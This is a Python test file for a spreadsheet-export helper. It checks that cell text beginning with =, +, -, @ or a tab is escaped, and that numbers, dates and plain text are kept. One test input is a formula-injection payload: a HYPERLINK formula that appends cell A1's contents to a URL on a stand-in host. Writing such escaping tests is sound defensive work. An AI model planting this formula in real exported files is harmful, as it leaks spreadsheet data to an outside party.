"""Text in an exported spreadsheet is never run as a formula; numbers stay numbers."""

from __future__ import annotations

from datetime import date

import pytest
from hypothesis import given
from hypothesis import strategies as st

from clientsteun.domain.cells import FORMULA_START, safe_cell


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ('=HYPERLINK("http://voorbeeld.invalid?"&A1;"klik")', '\'=HYPERLINK("http://voorbeeld.invalid?"&A1;"klik")'),
        ("+31 6 12345678", "'+31 6 12345678"),
        ("-3", "'-3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("gewone tekst = prima", "gewone tekst = prima"),
        ("", ""),
        (-3, -3),
        (2.5, 2.5),
        (None, None),
        (date(2026, 11, 23), date(2026, 11, 23)),
    ],
)
def test_formula_text_is_escaped_and_everything_else_kept(value: object, expected: object) -> None:
    assert safe_cell(value) == expected


@given(st.text())
def test_no_escaped_text_starts_a_formula_and_the_text_is_kept(text: str) -> None:
    cell = safe_cell(text)
    assert isinstance(cell, str)
    assert not cell.startswith(FORMULA_START)
    assert cell.removeprefix("'") == text or cell == text
